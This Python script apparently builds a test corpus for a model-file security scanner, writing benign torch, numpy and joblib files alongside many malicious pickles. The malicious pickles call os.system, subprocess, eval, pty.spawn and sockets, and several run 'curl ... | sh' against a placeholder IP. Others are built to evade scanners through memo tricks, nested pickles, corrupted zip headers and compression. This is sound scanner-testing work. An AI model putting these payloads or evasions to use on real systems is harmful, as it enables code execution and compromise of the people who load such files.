#!/usr/bin/env python3
"""Builds spawnguard-scan's test corpus: malicious and benign model files.

Standard library only, deterministic (same bytes on every run), nothing downloaded and nothing
unpickled. Malicious files carry payloads as *data*: they are never loaded here. Benign files are
shaped like real ones (torch state_dict zip and legacy checkpoints, numpy .npy/.npz,
scikit-learn joblib dumps) using stand-in modules registered under the real module names, so
the pickles reference exactly the globals the real libraries write.

Usage: generate.py [OUTDIR]   (default: the directory of this script)
Writes the files under OUTDIR/files/ and OUTDIR/manifest.json.
"""

import bz2
import collections
import copyreg
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
FILES = os.path.join(OUT, "files")
MANIFEST = []
ZIP_DATE = (2024, 1, 1, 0, 0, 0)


def emit(name, data, expected, evasion):
    os.makedirs(FILES, exist_ok=True)
    with open(os.path.join(FILES, name), "wb") as f:
        f.write(data)
    MANIFEST.append({"file": "files/" + name, "expected": expected, "evasion": evasion,
                     "kind": "benign" if expected == "safe" else "malicious" if expected == "dangerous" else "suspicious"})


# --------------------------------------------------------------------------------------------
# Deterministic pseudo-random floats (tensor / array payloads)

def lcg_floats(n, seed):
    x = seed & 0xFFFFFFFF
    out = bytearray()
    for _ in range(n):
        x = (1103515245 * x + 12345) & 0x7FFFFFFF
        out += struct.pack("<f", (x / 0x7FFFFFFF - 0.5) * 0.2)
    return bytes(out)


# --------------------------------------------------------------------------------------------
# Stand-in modules under real names, so pickle writes the real global references.

def fake_module(name):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        m = ".".join(parts[:i])
        if m not in sys.modules:
            sys.modules[m] = types.ModuleType(m)
        if i > 1:
            setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], sys.modules[m])
    return sys.modules[name]


def fake_function(module, name):
    mod = fake_module(module)

    def f(*a, **k):
        raise RuntimeError("stand-in, never called")
    f.__module__ = module
    f.__qualname__ = name
    f.__name__ = name
    setattr(mod, name, f)
    return f


def fake_class(module, name, **attrs):
    mod = fake_module(module)
    cls = type(name, (object,), dict(attrs))
    cls.__module__ = module
    cls.__qualname__ = name
    setattr(mod, name, cls)
    return cls


_rebuild_tensor_v2 = fake_function("torch._utils", "_rebuild_tensor_v2")
FloatStorage = fake_class("torch", "FloatStorage")
_reconstruct = fake_function("numpy.core.multiarray", "_reconstruct")
np_ndarray = fake_class("numpy", "ndarray")
np_dtype = fake_class("numpy", "dtype")
NumpyArrayWrapper = fake_class("joblib.numpy_pickle", "NumpyArrayWrapper")
LogisticRegression = fake_class("sklearn.linear_model._logistic", "LogisticRegression")
StandardScaler = fake_class("sklearn.preprocessing._data", "StandardScaler")
Pipeline = fake_class("sklearn.pipeline", "Pipeline")
MyModel = fake_class("mylib.models", "MyModel")


class Storage:
    def __init__(self, key, numel, data):
        self.key, self.numel, self.data = key, numel, data


class Tensor:
    """Pickles like torch.Tensor: _rebuild_tensor_v2(storage, offset, size, stride, grad, hooks)."""

    def __init__(self, storage, size):
        self.storage, self.size = storage, size

    def __reduce_ex__(self, proto):
        stride, acc = [], 1
        for d in reversed(self.size):
            stride.insert(0, acc)
            acc *= d
        return (_rebuild_tensor_v2, (self.storage, 0, tuple(self.size), tuple(stride), False,
                                     collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


class DType:
    """Pickles like numpy.dtype: numpy.dtype('f8', False, True) + BUILD state."""

    def __init__(self, descr):
        self.descr = descr

    def __reduce__(self):
        return (np_dtype, (self.descr, False, True), (3, "<", None, None, None, -1, -1, 0))


class Array:
    """An ndarray stand-in: pickles like numpy (via _reconstruct) unless joblib wraps it."""

    def __init__(self, shape, descr, data, objects=None):
        self.shape, self.descr, self.data, self.objects = shape, descr, data, objects

    def __reduce__(self):
        payload = self.objects if self.objects is not None else self.data
        return (_reconstruct, (np_ndarray, (0,), b"b"),
                (1, tuple(self.shape), DType(self.descr), False, payload))


def state_dict(seed, layers):
    sd = collections.OrderedDict()
    storages = []
    for i, (name, shape) in enumerate(layers):
        n = 1
        for d in shape:
            n *= d
        st = Storage(str(i), n, lcg_floats(n, seed + i))
        storages.append(st)
        sd[name] = Tensor(st, shape)
    sd._metadata = collections.OrderedDict([("", {"version": 1})])
    return sd, storages


LAYERS = [("conv1.weight", (8, 3, 3, 3)), ("conv1.bias", (8,)), ("bn1.weight", (8,)),
          ("bn1.bias", (8,)), ("fc.weight", (10, 32)), ("fc.bias", (10,))]


def torch_data_pkl(obj):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def zip_bytes(members, method=zipfile.ZIP_STORED, align=False):
    """align=True pads like torch's writer: an 'FB' extra field puts every member's data at a
    multiple of 64 bytes."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, ZIP_DATE)
            zi.compress_type = method
            zi.external_attr = 0o644 << 16
            if align:
                start = buf.tell() + 30 + len(name.encode()) + 4
                pad = (64 - start % 64) % 64
                zi.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            z.writestr(zi, data)
    return buf.getvalue()


def torch_zip(data_pkl, storages, root="archive"):
    """Member names, order and 64-byte alignment as torch.save (2.x) writes them."""
    members = [(f"{root}/data.pkl", data_pkl), (f"{root}/.format_version", b"1"),
               (f"{root}/.storage_alignment", b"64"), (f"{root}/byteorder", b"little")]
    for st in storages:
        members.append((f"{root}/data/{st.key}", st.data))
    members += [(f"{root}/version", b"3\n"), (f"{root}/.data/serialization_id", b"1234567890123456789012345678901234567890")]
    return zip_bytes(members, align=True)


def torch_legacy(obj, storages):
    buf = io.BytesIO()
    for header in (0x1950a86a20f9469cfc6c, 1001,
                   {"protocol_version": 1001, "little_endian": True,
                    "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickle.dump(header, buf, protocol=2)
    TorchPickler(buf, protocol=2).dump(obj)
    pickle.dump([st.key for st in storages], buf, protocol=2)
    for st in storages:
        buf.write(struct.pack("<q", st.numel))
        buf.write(st.data)
    return buf.getvalue()


def npy(descr, shape, body):
    header = "{'descr': %r, 'fortran_order': False, 'shape': %s, }" % (descr, repr(tuple(shape)))
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + body


class JoblibPickler(pickle._Pickler):
    """Writes like joblib's NumpyPickler: wrapper object, then the raw array bytes inline."""

    def __init__(self, f, protocol):
        super().__init__(f, protocol=protocol)
        self.file_handle = f

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Array) and obj.objects is None:
            w = NumpyArrayWrapper.__new__(NumpyArrayWrapper)
            w.__dict__.update({"subclass": np_ndarray, "shape": tuple(obj.shape), "order": "C",
                               "dtype": DType(obj.descr), "allow_mmap": False,
                               "numpy_array_alignment_bytes": 16})
            super().save(w)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            pos = self.file_handle.tell() + 1
            padding = 16 - pos % 16
            self.file_handle.write(bytes([padding]) + b"\xff" * padding)
            self.file_handle.write(obj.data)
            return
        return super().save(obj, save_persistent_id)


def joblib_dump(obj, protocol=4):
    buf = io.BytesIO()
    JoblibPickler(buf, protocol).dump(obj)
    return buf.getvalue()


def sklearn_model(seed):
    clf = LogisticRegression.__new__(LogisticRegression)
    clf.__dict__.update({
        "penalty": "l2", "C": 1.0, "solver": "lbfgs", "max_iter": 100, "n_features_in_": 4,
        "classes_": Array((3,), "<i8", struct.pack("<3q", 0, 1, 2)),
        "coef_": Array((3, 4), "<f8", lcg_floats(24, seed)),
        "intercept_": Array((3,), "<f8", lcg_floats(6, seed + 1)),
        "n_iter_": Array((1,), "<i4", struct.pack("<i", 17)),
        "_sklearn_version": "1.4.2",
    })
    sc = StandardScaler.__new__(StandardScaler)
    sc.__dict__.update({"with_mean": True, "with_std": True, "n_features_in_": 4,
                        "mean_": Array((4,), "<f8", lcg_floats(8, seed + 2)),
                        "scale_": Array((4,), "<f8", lcg_floats(8, seed + 3)),
                        "_sklearn_version": "1.4.2"})
    pipe = Pipeline.__new__(Pipeline)
    pipe.__dict__.update({"steps": [("scaler", sc), ("clf", clf)], "memory": None, "verbose": False,
                          "_sklearn_version": "1.4.2"})
    return pipe


# --------------------------------------------------------------------------------------------
# Malicious payloads (data only; the callables are referenced by name, never invoked).

class Reduce:
    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def op_str(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def op_bytes(b):
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


CURL = "curl -s http://203.0.113.7/x.sh | sh"


def stdlib_payloads():
    import subprocess, webbrowser, pty, shutil, runpy, socket  # noqa: E401 (referenced by name only)
    import builtins
    cases = [
        (0, Reduce(os.system, (CURL,)), "stdlib pickle protocol 0: os.system (posix.system)"),
        (1, Reduce(os.popen, ("id",)), "stdlib pickle protocol 1: os.popen"),
        (2, Reduce(subprocess.Popen, (["/bin/sh", "-c", "id"],)), "protocol 2: subprocess.Popen"),
        (3, Reduce(builtins.eval, ("__import__('os').system('id')",)), "protocol 3: builtins.eval"),
        (4, Reduce(builtins.exec, ("import os; os.system('id')",)), "protocol 4: builtins.exec"),
        (5, Reduce(subprocess.check_output, (["bash", "-c", "id"],)), "protocol 5: subprocess.check_output"),
        (4, Reduce(webbrowser.open, ("http://203.0.113.7/",)), "webbrowser.open"),
        (4, Reduce(pty.spawn, ("/bin/sh",)), "pty.spawn"),
        (4, Reduce(shutil.rmtree, ("/tmp/x",)), "shutil.rmtree"),
        (4, Reduce(runpy.run_path, ("/tmp/x.py",)), "runpy.run_path"),
        (2, Reduce(socket.create_connection, (("203.0.113.7", 4444),)), "socket.create_connection"),
        (2, Reduce(os.execv, ("/bin/sh", ["sh", "-c", "id"])), "os.execv"),
    ]
    for i, (proto, obj, what) in enumerate(cases):
        emit(f"mal_stdlib_{i:02d}_p{proto}.pkl", pickle.dumps(obj, protocol=proto), "dangerous", what)


def handmade_payloads():
    # STACK_GLOBAL with module and name fetched from the memo (picklescan bypass class)
    s = (b"\x80\x04" + op_str("os") + b"\x94" + op_str("system") + b"\x94" + b"0" + b"0"
         + b"h\x00h\x01\x93" + op_str(CURL) + b"\x85R.")
    emit("mal_stack_global_memo.pkl", s, "dangerous", "STACK_GLOBAL module/name from the memo (MEMOIZE + BINGET)")

    # the same with LONG_BINPUT / LONG_BINGET and PUT/GET (protocol 0 text memo)
    s = (b"\x80\x04" + op_str("subprocess") + b"r\x00\x01\x00\x000" + op_str("getoutput") + b"p7\n0"
         + b"j\x00\x01\x00\x00g7\n\x93" + op_str("id") + b"\x85R.")
    emit("mal_stack_global_long_memo.pkl", s, "dangerous", "STACK_GLOBAL via LONG_BINPUT/LONG_BINGET and PUT/GET")

    # Python 2 names (protocol < 3 remapping)
    emit("mal_py2_builtin_eval.pkl", b"c__builtin__\neval\n(S'__import__(\"os\").system(\"id\")'\ntR.",
         "dangerous", "Python 2 name __builtin__.eval (protocol 0)")
    emit("mal_py2_commands.pkl", b"\x80\x02ccommands\ngetoutput\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
         "dangerous", "Python 2 module commands -> subprocess (protocol 2)")
    emit("mal_py2_urllib2.pkl", b"\x80\x02curllib2\nurlopen\n" + op_str("http://203.0.113.7/stage") + b"\x85R.",
         "dangerous", "Python 2 module urllib2 -> urllib.request (protocol 2)")

    # dotted names, protocol >= 4: logging.os.system
    s = b"\x80\x04" + op_str("logging") + op_str("os.system") + b"\x93" + op_str(CURL) + b"\x85R."
    emit("mal_dotted_logging_os_system.pkl", s, "dangerous", "dotted name logging + os.system (protocol 4)")
    s = b"\x80\x04" + op_str("collections") + op_str("OrderedDict.__init__.__globals__") + b"\x93."
    emit("mal_dotted_dunder.pkl", s, "dangerous", "dotted name through __globals__")

    # importlib + getattr chain
    s = (b"\x80\x04" + op_str("builtins") + op_str("getattr") + b"\x93"
         + op_str("importlib") + op_str("import_module") + b"\x93" + op_str("os") + b"\x85R"
         + op_str("system") + b"\x86R" + op_str(CURL) + b"\x85R.")
    emit("mal_importlib_getattr_chain.pkl", s, "dangerous", "importlib.import_module + builtins.getattr chain")

    # pkgutil.resolve_name
    s = (b"\x80\x04" + op_str("pkgutil") + op_str("resolve_name") + b"\x93" + op_str("os:system")
         + b"\x85R" + op_str(CURL) + b"\x85R.")
    emit("mal_pkgutil_resolve_name.pkl", s, "dangerous", "pkgutil.resolve_name('os:system')")

    # INST and OBJ (protocol 0/1)
    emit("mal_inst.pkl", b"(S'" + CURL.encode() + b"'\nios\nsystem\n.", "dangerous", "INST opcode")
    emit("mal_obj.pkl", b"(cposix\nsystem\nS'id'\no.", "dangerous", "OBJ opcode")
    # NEWOBJ and NEWOBJ_EX
    emit("mal_newobj.pkl", b"\x80\x02csubprocess\nPopen\n(X\x02\x00\x00\x00idtq\x00\x81.", "dangerous", "NEWOBJ opcode")
    s = b"\x80\x04" + op_str("subprocess") + op_str("Popen") + b"\x93" + op_str("id") + b"\x85}" + op_str("shell") + b"\x88s\x92."
    emit("mal_newobj_ex.pkl", s, "dangerous", "NEWOBJ_EX opcode with kwargs")

    # EXT codes registered in-stream with copyreg.add_extension
    s = (b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemK\xf0tR0"
         b"\x82\xf0X\x02\x00\x00\x00id\x85R.")
    emit("mal_ext_code.pkl", s, "dangerous", "EXT1 code registered by copyreg.add_extension")

    # FRAME, then the payload, then truncated inside the frame
    body = b"\x95" + struct.pack("<Q", 200) + op_str("os") + op_str("system") + b"\x93" + op_str(CURL) + b"\x85R"
    emit("mal_truncated_frame.pkl", b"\x80\x04" + body, "dangerous", "truncated pickle (and FRAME) with the payload before the break")
    emit("mal_truncated_plain.pkl", pickle.dumps(Reduce(os.system, (CURL,)), protocol=2)[:-3], "dangerous",
         "truncated pickle: REDUCE done, then cut")

    # several pickles concatenated: benign first, malicious second
    emit("mal_concat_second.pkl", pickle.dumps({"a": 1}, protocol=4) + pickle.dumps(Reduce(os.system, ("id",)), protocol=4),
         "dangerous", "several pickles concatenated, payload in the second")

    # nested pickles: bytes handed to pickle.loads / torch _load_from_bytes
    inner = pickle.dumps(Reduce(os.system, (CURL,)), protocol=4)
    s = b"\x80\x04" + op_str("pickle") + op_str("loads") + b"\x93" + op_bytes(inner) + b"\x85R."
    emit("mal_nested_pickle_loads.pkl", s, "dangerous", "nested pickle passed to pickle.loads")
    inner_zip = torch_zip(pickle.dumps(Reduce(os.system, (CURL,)), protocol=2), [])
    s = b"\x80\x02ctorch.storage\n_load_from_bytes\n" + op_bytes(inner_zip) + b"\x85R."
    emit("mal_nested_load_from_bytes.pkl", s, "dangerous", "nested torch zip passed to torch.storage._load_from_bytes")
    s = (b"\x80\x02ctorch\nload\nc_io\nBytesIO\n" + op_bytes(inner) + b"\x85R\x85R.")
    emit("mal_nested_torch_load_bytesio.pkl", s, "dangerous", "nested pickle: torch.load(io.BytesIO(bytes))")
    # protocol 2 writes bytes as _codecs.encode(str, 'latin1')
    emit("mal_nested_codecs_p2.pkl", pickle.dumps(Reduce(pickle.loads, (inner,)), protocol=2), "dangerous",
         "nested pickle as protocol-2 bytes (_codecs.encode) passed to pickle.loads")
    # a bytes literal that is a pickle, held in object state and unpickled by __setstate__
    m = MyModel.__new__(MyModel)
    m.__dict__["blob"] = inner
    emit("mal_nested_bytes_in_state.pkl", pickle.dumps(m, protocol=4), "dangerous",
         "nested pickle kept as a bytes literal in object state")


def container_payloads():
    evil = pickle.dumps(Reduce(os.system, (CURL,)), protocol=2)
    sd, storages = state_dict(1, LAYERS)
    benign_pkl = torch_data_pkl(sd)

    emit("mal_torch_zip.pt", torch_zip(evil, storages), "dangerous", "PyTorch zip, payload in archive/data.pkl")

    # member with a wrong name: pickle stored under a non-.pkl name, and a local header name that
    # differs from the central directory (zipfile refuses it, torch's reader does not care)
    z = bytearray(torch_zip(evil, storages, root="model"))
    i = z.find(b"model/data.pkl")  # first occurrence: the local header
    z[i:i + len(b"model/data.pkl")] = b"model/data.xyz"
    emit("mal_torch_zip_local_name_mismatch.pt", bytes(z), "dangerous", "zip local header name differs from central directory")
    emit("mal_zip_wrong_name.pt", zip_bytes([("archive/data/0", evil), ("archive/version", b"3\n")]), "dangerous",
         "pickle stored in a member not named .pkl")

    # flipped flag bits (encrypted + data descriptor) in local and central headers
    z = bytearray(torch_zip(evil, storages))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        j = 0
        while True:
            j = z.find(sig, j)
            if j < 0:
                break
            z[j + off] |= 0x09
            j += 4
    emit("mal_torch_zip_flags.pt", bytes(z), "dangerous", "zip general-purpose flags flipped (encrypted, data descriptor)")

    # bad CRC on the pickle member
    z = bytearray(torch_zip(evil, storages))
    j = z.find(b"PK\x03\x04")
    z[j + 14:j + 18] = b"\xde\xad\xbe\xef"
    j = z.find(b"PK\x01\x02")
    z[j + 16:j + 20] = b"\xde\xad\xbe\xef"
    emit("mal_torch_zip_bad_crc.pt", bytes(z), "dangerous", "zip member with a bad CRC")

    emit("mal_torch_zip_deflated.pt", zip_bytes([("archive/data.pkl", evil), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED),
         "dangerous", "zip member deflated")

    # legacy torch.save format with a malicious main pickle
    buf = io.BytesIO()
    for header in (0x1950a86a20f9469cfc6c, 1001, {"protocol_version": 1001}):
        pickle.dump(header, buf, protocol=2)
    buf.write(evil)
    pickle.dump([], buf, protocol=2)
    emit("mal_torch_legacy.pt", buf.getvalue(), "dangerous", "legacy torch.save format (concatenated pickles)")

    # numpy object arrays
    arr = Array((2,), "|O", b"", objects=[Reduce(os.system, (CURL,)), "x"])
    obj_npy = npy("|O", (2,), pickle.dumps(arr, protocol=3))
    emit("mal_npy_object.npy", obj_npy, "dangerous", "numpy .npy with an object array")
    emit("mal_npz_object.npz", zip_bytes([("weights.npy", npy("<f4", (4,), lcg_floats(4, 9))), ("meta.npy", obj_npy)]),
         "dangerous", "numpy .npz with an object array member")

    # joblib: the payload sits after inline array bytes, plain and compressed
    model = sklearn_model(5)
    model.__dict__["memory"] = Reduce(os.system, (CURL,))
    jl = joblib_dump(model)
    emit("mal_joblib.joblib", jl, "dangerous", "joblib dump, payload after inline numpy array bytes")
    emit("mal_joblib_zlib.joblib", zlib.compress(jl, 3), "dangerous", "joblib zlib-compressed")
    emit("mal_joblib_gzip.joblib", gzip.compress(jl, 3, mtime=0), "dangerous", "joblib gzip-compressed")
    emit("mal_joblib_bz2.joblib", bz2.compress(jl, 3), "dangerous", "joblib bz2-compressed")
    emit("mal_joblib_lzma.joblib", lzma.compress(jl, format=lzma.FORMAT_ALONE), "dangerous", "joblib lzma-compressed (FORMAT_ALONE)")
    emit("mal_joblib_xz.joblib", lzma.compress(jl, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64), "dangerous", "joblib xz-compressed")

    # 7z and tar
    emit("mal_torch_7z.7z", sevenzip("model.pt", torch_zip(evil, storages)), "dangerous", "7z-compressed PyTorch zip")
    emit("mal_legacy_tar.tar", tar_bytes([("sys_info", pickle.dumps({"little_endian": True}, protocol=2)), ("pickle", evil)]),
         "dangerous", "tar archive (very old torch tar format)")
    return benign_pkl


# --------------------------------------------------------------------------------------------
# 7z writer (LZMA, one file), from the 7z format description; lzma.FORMAT_RAW gives the stream.

def sz_number(v):
    for i in range(9):
        if i == 8 or v < (1 << (7 * (i + 1))):
            first = ((0xFF << (8 - i)) & 0xFF) | (v >> (8 * i) if i < 8 else 0)
            return bytes([first & 0xFF]) + v.to_bytes(8, "little")[:i]
    raise ValueError


def sevenzip(name, data):
    dict_size = 1 << 20
    packed = lzma.compress(data, format=lzma.FORMAT_RAW,
                           filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size, "lc": 3, "lp": 0, "pb": 2}])
    props = bytes([(2 * 5 + 0) * 9 + 3]) + struct.pack("<I", dict_size)
    coder = bytes([0x20 | 3]) + b"\x03\x01\x01" + sz_number(len(props)) + props
    hdr = (b"\x01"                       # Header
           + b"\x04"                     # MainStreamsInfo
           + b"\x06" + sz_number(0) + sz_number(1) + b"\x09" + sz_number(len(packed)) + b"\x00"  # PackInfo
           + b"\x07" + b"\x0b" + sz_number(1) + b"\x00" + sz_number(1) + coder                   # UnPackInfo/Folder
           + b"\x0c" + sz_number(len(data)) + b"\x00"
           + b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00"     # SubStreamsInfo: CRC
           + b"\x00"                     # end MainStreamsInfo
           + b"\x05" + sz_number(1)      # FilesInfo
           + b"\x11" + sz_number(1 + (len(name) + 1) * 2) + b"\x00" + (name + "\0").encode("utf-16-le")
           + b"\x00"                     # end FilesInfo
           + b"\x00")                    # end Header
    start = struct.pack("<QQI", len(packed), len(hdr), zlib.crc32(hdr))
    sig = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start
    return sig + packed + hdr


def tar_bytes(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode, ti.uname, ti.gname = len(data), 0, 0o644, "", ""
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# Benign files shaped like real ones

def benign(data_pkl):
    sd, storages = state_dict(1, LAYERS)
    emit("ok_torch_state_dict.pt", torch_zip(data_pkl, storages), "safe", "benign: torch state_dict zip checkpoint")
    sd2, st2 = state_dict(7, LAYERS + [("head.weight", (4, 10)), ("head.bias", (4,))])
    emit("ok_torch_state_dict_named_root.pt", torch_zip(torch_data_pkl(sd2), st2, root="resnet_tiny"), "safe",
         "benign: torch state_dict zip with a custom archive root")
    emit("ok_torch_legacy.pt", torch_legacy(sd, storages), "safe", "benign: legacy torch.save format")
    emit("ok_numpy_f4.npy", npy("<f4", (16, 8), lcg_floats(128, 3)), "safe", "benign: numpy float32 array")
    emit("ok_numpy_arrays.npz", zip_bytes([("w.npy", npy("<f8", (4, 4), lcg_floats(32, 4))),
                                           ("b.npy", npy("<i8", (4,), struct.pack("<4q", 1, 2, 3, 4)))]),
         "safe", "benign: numpy .npz (np.savez)")
    emit("ok_numpy_arrays_compressed.npz", zip_bytes([("w.npy", npy("<f8", (4, 4), lcg_floats(32, 5)))], zipfile.ZIP_DEFLATED),
         "safe", "benign: numpy .npz (np.savez_compressed)")
    emit("ok_numpy_object_strings.npy", npy("|O", (2,), pickle.dumps(Array((2,), "|O", b"", objects=["cat", "dog"]), protocol=3)),
         "safe", "benign: numpy object array of strings")
    jl = joblib_dump(sklearn_model(11))
    emit("ok_sklearn_pipeline.joblib", jl, "safe", "benign: scikit-learn pipeline joblib dump (NumpyArrayWrapper + inline arrays)")
    emit("ok_sklearn_pipeline_p2.joblib", joblib_dump(sklearn_model(12), protocol=2), "safe", "benign: joblib dump, protocol 2")
    emit("ok_sklearn_pipeline_zlib.joblib", zlib.compress(jl, 3), "safe", "benign: joblib zlib-compressed")
    emit("ok_sklearn_pipeline_gzip.joblib", gzip.compress(jl, 3, mtime=0), "safe", "benign: joblib gzip-compressed")
    emit("ok_sklearn_pipeline_bz2.joblib", bz2.compress(jl, 3), "safe", "benign: joblib bz2-compressed")
    emit("ok_sklearn_pipeline_lzma.joblib", lzma.compress(jl, format=lzma.FORMAT_ALONE), "safe", "benign: joblib lzma-compressed")
    emit("ok_sklearn_pipeline_xz.joblib", lzma.compress(jl, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64), "safe", "benign: joblib xz-compressed")
    for proto in range(6):
        obj = {"epoch": 12, "lr": 0.001, "names": ["a", "b"], "shape": (3, 4), "blob": b"\x00\x01", "ok": True,
               "big": 2 ** 70, "od": collections.OrderedDict(x=1)}
        emit(f"ok_plain_p{proto}.pkl", pickle.dumps(obj, protocol=proto), "safe", f"benign: plain data pickle, protocol {proto}")
    emit("ok_concat.pkl", pickle.dumps([1, 2], protocol=2) + pickle.dumps({"k": "v"}, protocol=4), "safe",
         "benign: two pickles concatenated")
    emit("ok_torch_7z.7z", sevenzip("model.pt", torch_zip(data_pkl, storages)), "safe", "benign: 7z-compressed torch checkpoint")
    emit("ok_checkpoint.tar", tar_bytes([("model/data.pkl", data_pkl), ("model/notes.txt", b"trained 3 epochs\n")]), "safe",
         "benign: tar archive of a checkpoint")
    # suspicious but not dangerous: unknown application classes
    m = MyModel.__new__(MyModel)
    m.__dict__.update({"layers": 3, "name": "tiny"})
    emit("sus_unknown_class.pkl", pickle.dumps(m, protocol=4), "suspicious", "unknown application class (not allowlisted)")


def main():
    stdlib_payloads()
    handmade_payloads()
    data_pkl = container_payloads()
    benign(data_pkl)
    MANIFEST.sort(key=lambda e: e["file"])
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump({"generator": "generate.py", "files": MANIFEST}, f, indent=1, sort_keys=True)
        f.write("\n")


if __name__ == "__main__":
    main()
